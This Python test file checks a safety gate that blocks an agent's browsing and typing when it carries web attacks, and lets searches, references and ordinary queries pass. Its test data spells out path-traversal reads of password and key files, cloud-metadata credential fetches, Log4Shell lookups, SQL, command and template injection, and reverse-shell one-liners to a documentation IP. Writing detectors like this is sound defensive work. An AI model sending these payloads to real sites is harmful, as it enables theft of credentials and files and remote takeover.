"""Attacks on a site carried in a URL or typed into its fields: reading the server's system files, its cloud
credentials or planting a JNDI lookup blocks; other injection probes ask; searches, references, code hosts and
ordinary query strings pass."""

import pytest

from gate import Observation, SafetyGate, action_from_dict
from gate.model import Decision
from gate.web_attack import decoded, in_url, in_value, subject_site

OURS = {"block.web.attack-file-read", "confirm.web.attack-probe", "block.typed.attack-file-read",
        "confirm.typed.attack-probe"}
_GATE = SafetyGate()


def visit(url: str):
    return _GATE.assess(action_from_dict({"type": "navigate", "url": url}))


def typed(text: str, page: str):
    return _GATE.assess(action_from_dict({"type": "type", "text": text}), Observation(url=page))


@pytest.mark.parametrize("url", [
    # traversal to system files, in every spelling a server decodes
    "https://books.example.org/read.php?chapter=../../../../../etc/passwd",
    "https://books.example.org/read.php?chapter=..%2F..%2F..%2Fetc%2Fshadow",
    "https://books.example.org/read.php?chapter=%252e%252e%252f%252e%252e%252fetc%252fgroup",
    "https://books.example.org/read.php?chapter=....//....//....//etc/passwd",
    "https://books.example.org/read.php?chapter=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "https://books.example.org/read.aspx?doc=..\\..\\..\\..\\windows\\win.ini",
    "https://books.example.org/read.aspx?doc=..%5c..%5cwindows%5csystem32%5cconfig%5csam",
    "https://books.example.org/assets/..%2f..%2f..%2f..%2fproc/self/environ",
    "https://books.example.org/read.php?chapter=../../../../home/deploy/.ssh/id_rsa",
    "https://books.example.org/read.php?chapter=../../../.env",
    "https://books.example.org/read.php?chapter=../../../../etc/passwd%00.png",
    # a system file named by its path, or through a stream wrapper
    "https://books.example.org/read.php?chapter=/etc/shadow",
    "https://books.example.org/read.php?chapter=file:///etc/passwd",
    "https://books.example.org/read.php?chapter=php://filter/read=convert.base64-encode/resource=/etc/passwd",
    "https://books.example.org/read.aspx?doc=C:\\Windows\\win.ini",
    # a command that prints a system file
    "https://router.example.net/cgi-bin/diag?addr=10.0.0.1;cat%20/etc/passwd",
    # the cloud metadata service fetched by the server
    "https://books.example.org/preview?link=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "https://books.example.org/preview?link=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F",
    "https://books.example.org/preview?link=http://[fd00:ec2::254]/latest/meta-data/",
    "https://books.example.org/preview?link=http://0xa9fea9fe/latest/",
    "https://books.example.org/preview?link=http://100.100.100.200/latest/meta-data/",
    # Log4Shell, plain and spelled in pieces
    "https://books.example.org/?ref=${jndi:ldap://203.0.113.5:1389/Basic}",
    "https://books.example.org/?ref=%24%7Bjndi%3Armi%3A%2F%2Fcollector.example.net%2Fo%7D",
    "https://books.example.org/?ref=${${lower:j}${lower:n}di:ldap://collector.example.net/z}",
    "https://books.example.org/?ref=${${::-j}${::-n}${::-d}${::-i}:dns://collector.example.net/q}",
])
def test_reading_system_files_or_credentials_blocks(url):
    result = visit(url)
    assert result.decision is Decision.BLOCK
    assert "block.web.attack-file-read" in result.rules


@pytest.mark.parametrize("url", [
    # SQL injection
    "https://books.example.org/title?id=7' or 'z'='z",
    "https://books.example.org/title?id=7%22%20OR%203%3D3--",
    "https://books.example.org/title?id=-1 union all select null,login,pass from members--",
    "https://books.example.org/signin?name=root'%23",
    "https://books.example.org/title?id=4; drop table loans",
    "https://books.example.org/title?id=4' and sleep(10)--",
    "https://books.example.org/title?id=4 waitfor delay '0:0:5'",
    "https://books.example.org/title?id=4 and extractvalue(1,concat(0x7e,version()))",
    "https://books.example.org/title?id=4 order by 9--",
    "https://books.example.org/signin?login[$ne]=a&secret[$ne]=b",
    # OS command injection
    "https://router.example.net/cgi-bin/diag?addr=10.0.0.1|whoami",
    "https://router.example.net/cgi-bin/diag?addr=10.0.0.1%26%26uname%20-a",
    "https://router.example.net/cgi-bin/diag?addr=`id`",
    "https://router.example.net/cgi-bin/diag?addr=$(id)",
    "https://router.example.net/cgi-bin/diag?addr=10.0.0.1;ping -c 3 198.51.100.7",
    "https://router.example.net/cgi-bin/diag?addr=x${IFS}y",
    # template injection
    "https://books.example.org/greet?who={{6*6}}",
    "https://books.example.org/greet?who=${5*5}",
    "https://books.example.org/greet?who=<%= 3*3 %>",
    "https://books.example.org/greet?who={{''.__class__.__mro__}}",
    "https://books.example.org/greet?who=${T(java.lang.Runtime).getRuntime().exec('x')}",
    # the server's own services, and schemes only an attack fetches
    "https://books.example.org/preview?link=http://127.0.0.1:6379/",
    "https://books.example.org/preview?link=http://localhost/server-status",
    "https://books.example.org/preview?link=http://10.0.0.5:2375/containers/json",
    "https://books.example.org/preview?link=gopher://127.0.0.1:11211/_stats",
    "https://books.example.org/preview?link=dict://localhost:6379/info",
    # wrappers, entities, header breaks, a deep climb
    "https://books.example.org/read.php?chapter=php://filter/convert.base64-encode/resource=config",
    "https://books.example.org/read.php?chapter=expect://ls",
    "https://books.example.org/read.php?chapter=data://text/plain;base64,PD9waHAgZWNobyAxOyA/Pg==",
    "https://books.example.org/api?doc=<!DOCTYPE r [<!ENTITY x SYSTEM \"http://collector.example.net/\">]><r>&x;</r>",
    "https://books.example.org/go?lang=en%0d%0aSet-Cookie:%20sid=1",
    "https://books.example.org/read.php?chapter=../../../../../../",
])
def test_injection_probes_ask(url):
    result = visit(url)
    assert result.decision is not Decision.ALLOW
    assert OURS & set(result.rules)


@pytest.mark.parametrize("url", [
    # searches and references about the attacks
    "https://www.google.com/search?q=what+is+sql+injection",
    "https://www.bing.com/search?q=%27+or+1%3D1--+explained",
    "https://duckduckgo.com/?q=..%2F..%2Fetc%2Fpasswd+traversal",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
    "https://portswigger.net/web-security/ssrf?x=http://169.254.169.254/",
    "https://stackoverflow.com/questions/55501/how-to-escape-script-tags-in-json",
    "https://stackoverflow.com/search?q=union+select+error+1222",
    "https://en.wikipedia.org/wiki/Log4Shell",
    "https://logging.apache.org/log4j/2.x/security.html",
    # code hosts showing the strings in file names
    "https://github.com/example/wordlists/blob/main/lfi/etc-passwd-variants.txt",
    "https://github.com/example/wordlists/tree/main/Directory%20Traversal/../../etc/passwd",
    "https://raw.githubusercontent.com/example/wordlists/main/ssti/%7B%7B7*7%7D%7D.txt",
    "https://gitlab.com/example/fuzz/-/raw/main/sqli/union-select.txt",
    # ordinary '..' and ordinary query strings
    "https://docs.example.org/guide/../reference/index.html",
    "https://docs.example.org/a/b/c/../../../intro.html",
    "https://app.example.org/view?file=../images/banner.png",
    "https://app.example.org/files?path=/home/sam/reports/q3.pdf",
    "https://shop.example.org/search?q=men%27s+wool+socks",
    "https://shop.example.org/search?q=O%27Connor+and+sons",
    "https://shop.example.org/search?q=how+much+sleep+(8+hours)",
    "https://shop.example.org/search?q=union+select+committee+report",
    "https://shop.example.org/search?q=/etc/hosts",
    "https://shop.example.org/products?sort=id&dir=desc&cols=name|id",
    "https://shop.example.org/list?filter=price>5 and price<10",
    "https://api.example.org/v1/items?where={\"qty\":{\"$gt\":3}}",
    "https://auth.example.org/authorize?client_id=cli&redirect_uri=http://localhost:8085/callback",
    "https://auth.example.org/authorize?client_id=cli&redirect_uri=http%3A%2F%2F127.0.0.1%3A53682%2F",
    "https://app.example.org/out?to=https://news.example.org/story/1",
    "https://app.example.org/login?next=/dashboard&utm_source=mail",
    "https://reports.example.org/r?tz=Europe%2FBerlin&from=2024-01-01",
    "https://calc.example.org/?expr=7*7",
    "https://site.example.org/templates/{{name}}/preview",
    "https://explain.example.org/explain?cmd=cat+/etc/passwd",
    "https://shop.example.org/search?q=169.254.169.254",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
])
def test_benign_neighbours_pass(url):
    result = visit(url)
    assert not OURS & set(result.rules)


@pytest.mark.parametrize("url", [
    "https://docs.example.org/guide/../reference/index.html",
    "https://shop.example.org/search?q=men%27s+wool+socks",
    "https://auth.example.org/authorize?client_id=cli&redirect_uri=http://localhost:8085/callback",
    "https://www.google.com/search?q=what+is+sql+injection",
])
def test_benign_neighbours_are_allowed(url):
    assert visit(url).decision is Decision.ALLOW


@pytest.mark.parametrize(("text", "page"), [
    ("../../../../etc/passwd", "https://books.example.org/upload"),
    ("..\\..\\..\\windows\\system32\\config\\sam", "https://books.example.org/attach"),
    ("192.0.2.1; cat /etc/shadow", "https://router.example.net/tools/traceroute"),
    ("${jndi:ldap://collector.example.net/a}", "https://books.example.org/feedback"),
    ("http://169.254.169.254/latest/meta-data/iam/", "https://books.example.org/import-from-link"),
])
def test_typed_file_reads_block(text, page):
    result = typed(text, page)
    assert result.decision is Decision.BLOCK
    assert "block.typed.attack-file-read" in result.rules


@pytest.mark.parametrize(("text", "page"), [
    ("nobody' or 'q'='q", "https://books.example.org/signin"),
    ("root')--", "https://books.example.org/signin"),
    ("192.0.2.1 && whoami", "https://router.example.net/tools/ping"),
    ("{{9*9}}", "https://books.example.org/profile"),
    ("http://127.0.0.1:9200/_cat/indices", "https://books.example.org/import-from-link"),
])
def test_typed_probes_ask(text, page):
    result = typed(text, page)
    assert result.decision is not Decision.ALLOW
    assert OURS & set(result.rules)


@pytest.mark.parametrize(("text", "page"), [
    ("what is path traversal", "https://books.example.org/search"),
    ("Dear {{first_name}}, your loan is due", "https://mail.example.org/templates/new"),
    ("SELECT id FROM a UNION SELECT id FROM b", "https://warehouse.example.org/sql/editor"),
    ("x' or 'a'='a", "http://localhost:5000/login"),
    ("../notes/todo.md", "https://docs.example.org/edit"),
    ("O'Hara", "https://books.example.org/checkout"),
    ("Rock 'n' roll", "https://books.example.org/search"),
    ("ls -la /tmp", "https://books.example.org/search"),
    ("{{7*7}} renders 49 in Jinja", "https://stackoverflow.com/questions/ask"),
])
def test_typed_benign_pass(text, page):
    assert not OURS & set(typed(text, page).rules)


def test_decoding_and_sites():
    assert decoded("%252e%252e%252f") == "../"
    assert decoded("....//etc") == "../etc"
    assert decoded("..\\x") == "../x"
    assert subject_site("cheatsheetseries.owasp.org") and subject_site("www.google.de")
    assert not subject_site("owasp.org.example.net")
    assert in_value("hello world") is None
    assert in_url("https://example.org/") is None
    found = in_value("../../../etc/passwd", "page")
    assert found is not None and found.reads and found.kind == "traversal"


@pytest.mark.parametrize(("text", "decision"), [
    ("https://books.example.org/read.php?chapter=..%2f..%2f..%2fetc%2fpasswd", Decision.BLOCK),
    ("books.example.org/title?id=2%27%20or%20%27k%27=%27k", Decision.CONFIRM),
])
def test_url_typed_into_the_address_bar_is_judged_as_opened(text, decision):
    result = typed(text, "https://start.example.org/")
    assert result.decision is decision


def test_url_about_the_attack_typed_into_the_address_bar_passes():
    result = typed("https://www.google.com/search?q=..%2F..%2Fetc%2Fpasswd", "https://start.example.org/")
    assert not OURS & set(result.rules)


@pytest.mark.parametrize("url", [
    "https://books.example.org/cgi-bin/stat?ua=()%20%7B%20:;%20%7D;%20echo%20hi",
    "https://books.example.org/page?x=<!--%23exec cmd=\"date\" -->",
    "https://books.example.org/page?x=<esi:include src=\"http://collector.example.net/\"/>",
    "https://books.example.org/do.action?name=%25%7B(%23_memberAccess)%7D",
    "https://books.example.org/people?uid=*)(objectClass=*))(|(cn=*",
    "https://books.example.org/api/merge?__proto__[role]=admin",
    "https://books.example.org/api/merge?item[constructor][prototype][role]=admin",
    "https://books.example.org/.env",
    "https://books.example.org/app/.git/config",
    "https://books.example.org/dump.sql",
    "https://books.example.org/wp-config.php.save",
])
def test_other_injections_and_exposed_files_ask(url):
    result = visit(url)
    assert result.decision is not Decision.ALLOW
    assert "confirm.web.attack-probe" in result.rules


@pytest.mark.parametrize("url", [
    "https://books.example.org/preview?link=http://169.254.169.254.nip.io/latest/meta-data/",
    "https://books.example.org/preview?link=http://[::ffff:169.254.169.254]/latest/meta-data/",
])
def test_metadata_address_in_disguise_blocks(url):
    assert "block.web.attack-file-read" in visit(url).rules


@pytest.mark.parametrize("url", [
    "https://docs.example.org/manual/../etc/hosts.html",
    "https://docs.example.org/admin-guide/etc/passwd-format",
    "https://books.example.org/.well-known/security.txt",
    "https://books.example.org/settings/environment",
    "https://books.example.org/api?sort=-created&fields=id,name",
    "https://books.example.org/search?q=(a)(b)*",
    "https://github.com/example/app/blob/main/.env.example",
    "https://books.example.org/static/app.js.map",
])
def test_more_benign_neighbours_pass(url):
    assert not OURS & set(visit(url).rules)


def test_local_page_sending_on_to_a_local_address_passes():
    url = "http://localhost:8000/accounts/login/?next=http://localhost:8000/admin/"
    assert not OURS & set(visit(url).rules)


@pytest.mark.parametrize("url", [
    "https://tracker.example.com/issues/?jql=project%20%3D%20OPS%20AND%20status%20%3D%20%22Open%22%20ORDER%20BY%20created",
    "https://logs.example.com/app/search?q=search%20index%3Dweb%20%7C%20stats%20count%20by%20host",
    "https://social.example.com/intent/post?text=It%27s%20lovely%20--%20truly",
    "https://shop.example.com/search?q=%22blue+coat%22+or+2",
    "https://app.example.com/share?text=Tom+%26%26+Jerry",
    "https://app.example.com/report?sql=select+*+from+orders+where+id%3D5",
])
def test_query_languages_and_prose_in_parameters_pass(url):
    assert not OURS & set(visit(url).rules)


@pytest.mark.parametrize(("text", "page"), [
    ("Payload seen in logs: x' or 'a'='a", "https://docs.example.com/document/d/1abc/edit"),
    ("blocked a ../../../../etc/passwd attempt", "https://mail.example.com/compose"),
    ("the scanner sent 127.0.0.1; cat /etc/passwd to the ping form yesterday, see ticket", "https://books.example.org/feedback"),
])
def test_typed_writing_about_attacks_passes(text, page):
    assert not OURS & set(typed(text, page).rules)


@pytest.mark.parametrize("url", [
    "https://books.example.org/title?id=3 union/**/select 1,2,3",
    "https://books.example.org/title?id=3 /*!50000union*/ select null,null",
    "https://books.example.org/title?id=3' and ascii(substring(user(),1,1))>64--",
    "https://books.example.org/title?id=3' having 2=2--",
    "https://router.example.net/cgi-bin/diag?addr=x;bash -c 'sh -i >%26 /dev/tcp/198.51.100.4/9001 0>%261'",
    "https://router.example.net/cgi-bin/diag?addr=x;nc -e /bin/sh 198.51.100.4 9001",
])
def test_spelled_around_filters_ask(url):
    assert OURS & set(visit(url).rules)


@pytest.mark.parametrize("url", ["https://files.example.org/data.zip", "https://files.example.org/backup.zip",
                                 "https://files.example.org/www.tar.gz", "https://files.example.org/db.bak.html"])
def test_ordinary_downloads_at_a_root_pass(url):
    assert not OURS & set(visit(url).rules)
